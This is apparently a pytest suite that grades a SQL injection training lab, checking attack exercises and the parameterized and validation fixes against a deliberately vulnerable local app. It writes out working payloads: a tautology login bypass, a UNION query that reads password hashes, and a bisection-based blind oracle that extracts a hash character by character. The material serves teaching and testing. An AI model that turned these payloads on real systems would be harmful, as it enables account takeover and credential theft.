"""07-injection: every check fails on the stub and on a plausible wrong answer or fix, and
passes on the reference — judged through the real lab, over HTTP."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from labkit.attacks import injection as inj
from labkit.exercises.check import CheckResult
from labkit.exercises.lab import Lab
from labkit.patterns import validation as secure
from labkit.vulnerable import validation as weak
from tests.labs import running_lab

pytestmark = pytest.mark.usefixtures("not_strict")  # failing on purpose is the point

ALICE_HASH = "SELECT password_hash FROM users WHERE email = 'alice@example.com'"
UNION_HASHES = "SELECT id, email, role, password_hash, token_version, password_hash, age FROM users"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with running_lab(tmp_path_factory, "07-injection") as opened:
        yield opened


def mentions(result: CheckResult, text: str) -> bool:
    return text in repr(result)


def not_written(*args: Any) -> Any:
    raise NotImplementedError


# -- the learner's possible fixes --------------------------------------------------------
QUERIES = ("find_users", "create_user", "find_login")
REFERENCE: dict[str, Callable[..., Any]] = {
    "find_users": secure.find_users,
    "create_user": secure.create_user,
    "find_login": secure.find_login,
    "validate_user": secure.validate_user,
    "body_too_large": secure.body_too_large,
}
VULNERABLE: dict[str, Callable[..., Any]] = {
    "find_users": weak.find_users,
    "create_user": weak.create_user,
    "find_login": weak.find_login,
    "validate_user": weak.validate_user,
    "body_too_large": weak.body_too_large,
}
STUBS = dict.fromkeys(REFERENCE, not_written)


def length_only_validate_user(data: Any) -> tuple[Any, Any]:
    """Caps the strings, never looks at types."""
    errors = {
        field: ["Too long"] for field in ("email", "name") if len(str(data.get(field, ""))) > 100
    }
    return (None, {"fieldErrors": errors}) if errors else (dict(data), None)


# -- attack checks -----------------------------------------------------------------------
def test_auth_bypass_fails_on_the_stub_and_a_wrong_type(lab: Lab) -> None:
    assert not lab.check("auth-bypass", None).passed
    assert not lab.check("auth-bypass", "' OR '1'='1").passed


def test_auth_bypass_fails_with_the_real_password(lab: Lab) -> None:
    alice = lab.users["alice"]
    result = lab.check("auth-bypass", {"email": alice.email, "password": alice.password})
    assert not result.passed
    assert mentions(result, "that is a real password")


def test_auth_bypass_fails_when_it_gets_in_as_someone_else(lab: Lab) -> None:
    result = lab.check("auth-bypass", {"email": "' OR email = 'bob@example.com", "password": "x"})
    assert not result.passed
    assert mentions(result, "bob@example.com (editor), not an admin")


def test_auth_bypass_fails_without_injection(lab: Lab) -> None:
    result = lab.check("auth-bypass", {"email": "alice@example.com", "password": "guess"})
    assert not result.passed
    assert mentions(result, "401")


def test_auth_bypass_passes_on_the_tautology(lab: Lab) -> None:
    result = lab.check("auth-bypass", {"email": "' OR '1'='1", "password": "anything"})
    assert result.passed, repr(result)


def test_union_hashes_fails_on_the_stub_and_a_partial_read(lab: Lab) -> None:
    assert not lab.check("union-hashes", {}).passed
    assert not lab.check("union-hashes", ["alice@example.com"]).passed
    rows = inj.union_read(lab.client, UNION_HASHES)
    partial = {r["email"]: r["name"] for r in rows if r["role"] == "admin"}
    result = lab.check("union-hashes", partial)
    assert not result.passed
    assert mentions(result, "1 of the 3 password hashes are right")


def test_union_hashes_passes_on_a_union_read(lab: Lab) -> None:
    assert inj.column_count(lab.client) == 7
    rows = inj.union_read(lab.client, UNION_HASHES)
    result = lab.check("union-hashes", {r["email"]: r["name"] for r in rows if r["name"]})
    assert result.passed, repr(result)


def test_blind_extract_fails_on_the_stub_and_a_truncated_hash(lab: Lab) -> None:
    assert not lab.check("blind-extract", None).passed
    ask = inj.lookup_oracle(lab.client, "alice@example.com")
    prefix = inj.blind_extract(ask, f"substr(({ALICE_HASH}), 1, 12)")
    result = lab.check("blind-extract", prefix)
    assert not result.passed
    assert mentions(result, "the first 12 characters are right")


def test_blind_extract_passes_on_a_full_extraction(lab: Lab) -> None:
    ask = inj.lookup_oracle(lab.client, "alice@example.com")
    result = lab.check("blind-extract", inj.blind_extract(ask, ALICE_HASH))
    assert result.passed, repr(result)


def test_stacked_query_fails_on_the_stub_and_a_single_statement(lab: Lab) -> None:
    assert not lab.check("stacked-query", None).passed
    assert not lab.check("stacked-query", "' OR '1'='1").passed
    result = lab.check("stacked-query", "alice@example.com;")  # no quote: just a literal
    assert not result.passed
    assert mentions(result, "did not reach the database as two statements")


def test_stacked_query_passes_and_the_table_survives(lab: Lab) -> None:
    result = lab.check("stacked-query", inj.STACKED)
    assert result.passed, repr(result)
    assert mentions(result, "the users table is still there")


def test_oversized_fails_on_the_stub_and_a_short_name(lab: Lab) -> None:
    assert not lab.check("oversized", None).passed
    email = inj.fresh_email()
    assert inj.create(lab.client, {"email": email, "name": "x" * 5000}).status_code == 201
    result = lab.check("oversized", email)
    assert not result.passed
    assert mentions(result, "5,000 characters")


def test_oversized_passes_on_five_megabytes(lab: Lab) -> None:
    email = inj.fresh_email()
    assert inj.create(lab.client, {"email": email, "name": "x" * 5_000_000}).status_code == 201
    assert lab.check("oversized", email).passed


def test_wrong_types_fails_on_the_stub_and_valid_ages(lab: Lab) -> None:
    assert not lab.check("wrong-types", None).passed
    emails = [inj.fresh_email() for _ in range(2)]
    for email in emails:
        inj.create(lab.client, {"email": email, "name": "Fine", "age": 30})
    result = lab.check("wrong-types", emails)
    assert not result.passed
    assert mentions(result, "0 of your accounts")


def test_wrong_types_passes_on_the_wrong_type_bodies(lab: Lab) -> None:
    bodies = inj.wrong_type_bodies()
    for body in bodies.values():
        inj.create(lab.client, body)
    result = lab.check("wrong-types", [b["email"] for b in bodies.values()])
    assert result.passed, repr(result)
    assert mentions(result, "age 'abc'")


# -- parameterized -----------------------------------------------------------------------
def pick(fixes: dict[str, Callable[..., Any]], names: tuple[str, ...]) -> dict[str, Any]:
    return {name: fixes[name] for name in names}


def test_parameterized_fails_on_the_stub(lab: Lab) -> None:
    result = lab.check("parameterized", **pick(STUBS, QUERIES))
    assert not result.passed
    assert mentions(result, "is not written yet")


def test_parameterized_passes_on_the_reference(lab: Lab) -> None:
    result = lab.check("parameterized", **pick(REFERENCE, QUERIES))
    assert result.passed, repr(result)
    assert mentions(result, f"all {len(inj.PAYLOADS)} injection payloads found nothing")


# -- validation --------------------------------------------------------------------------
def test_validation_fails_on_the_stub(lab: Lab) -> None:
    result = lab.check("validation", validate_user=not_written)
    assert not result.passed
    assert mentions(result, "validate_user is not written yet")


def test_validation_fails_on_lengths_without_types(lab: Lab) -> None:
    result = lab.check("validation", validate_user=length_only_validate_user)
    assert not result.passed
    assert mentions(result, '[age-field] age "abc" got 201')


def test_validation_passes_on_the_reference(lab: Lab) -> None:
    result = lab.check("validation", validate_user=secure.validate_user)
    assert result.passed, repr(result)


# -- body-limit --------------------------------------------------------------------------
def test_body_limit_fails_on_the_stub(lab: Lab) -> None:
    result = lab.check("body-limit", body_too_large=not_written)
    assert not result.passed
    assert mentions(result, "body_too_large is not written yet")


def test_body_limit_passes_on_the_reference(lab: Lab) -> None:
    result = lab.check("body-limit", body_too_large=secure.body_too_large)
    assert result.passed, repr(result)


# -- verify ------------------------------------------------------------------------------
def test_verify_fails_on_the_stubs(lab: Lab) -> None:
    result = lab.check("verify", **STUBS)
    assert not result.passed
    assert mentions(result, "not written yet")


def test_verify_fails_on_validation_without_parameterization(lab: Lab) -> None:
    fixes = {**VULNERABLE, "validate_user": secure.validate_user}
    fixes["body_too_large"] = secure.body_too_large
    result = lab.check("verify", **fixes)
    assert not result.passed
    assert mentions(result, "[no-crash] find_users raised OperationalError")  # SQL got in


def test_verify_fails_on_parameterization_without_a_length_limit(lab: Lab) -> None:
    fixes = {**pick(REFERENCE, QUERIES), **pick(VULNERABLE, ("validate_user", "body_too_large"))}
    result = lab.check("verify", **fixes)
    assert not result.passed
    assert mentions(result, "validate_user raised TypeError")  # a list body


def test_verify_passes_on_the_reference(lab: Lab) -> None:
    result = lab.check("verify", **REFERENCE)
    assert result.passed, repr(result)


# -- the learner's own exploits, written from building blocks (as the solved notebook does) --
def oracle_on(client: Any) -> Callable[[str], bool]:
    """A one-bit oracle written by hand: one request, alice comes back or not."""

    def oracle(condition: str) -> bool:
        email = f"alice@example.com' AND ({condition}) --"
        return bool(client.get("/api/users", params={"email": email}).json().get("users"))

    return oracle


def bisect(oracle: Callable[[str], bool], expression: str, low: int, high: int) -> int:
    while low < high:
        middle = (low + high) // 2
        if oracle(f"({expression}) > {middle}"):
            low = middle + 1
        else:
            high = middle
    return low


HAND_UNION = (
    "' UNION SELECT id, email, role, password_hash, token_version, password_hash, age FROM users --"
)
HAND_BYPASS = {"email": "' OR '1'='1", "password": "no idea"}


def test_hand_written_exploits_pass_the_attack_checks(lab: Lab) -> None:
    assert lab.check("auth-bypass", HAND_BYPASS).passed
    rows = lab.client.get("/api/users", params={"email": HAND_UNION}).json()["users"]
    assert lab.check("union-hashes", {r["email"]: r["name"] for r in rows if r["name"]}).passed
    oracle = oracle_on(lab.client)
    assert oracle("1 = 1") and not oracle("1 = 2")
    length = bisect(oracle, f"length(({ALICE_HASH}))", 0, 256)
    extracted = "".join(
        chr(bisect(oracle, f"unicode(substr(({ALICE_HASH}), {i}, 1))", 0, 127))
        for i in range(1, length + 1)
    )
    result = lab.check("blind-extract", extracted)
    assert result.passed, repr(result)


def test_hand_written_exploits_are_refused_by_the_reference_fix(lab: Lab) -> None:
    fixed = lab.patched(**REFERENCE)
    assert fixed.client.post("/api/auth/login", json=HAND_BYPASS).status_code == 401
    union = fixed.client.get("/api/users", params={"email": HAND_UNION})
    assert union.status_code == 200 and union.json()["users"] == []
    oracle = oracle_on(fixed.client)
    assert not oracle("1 = 1") and not oracle("1 = 2")  # the oracle learns nothing
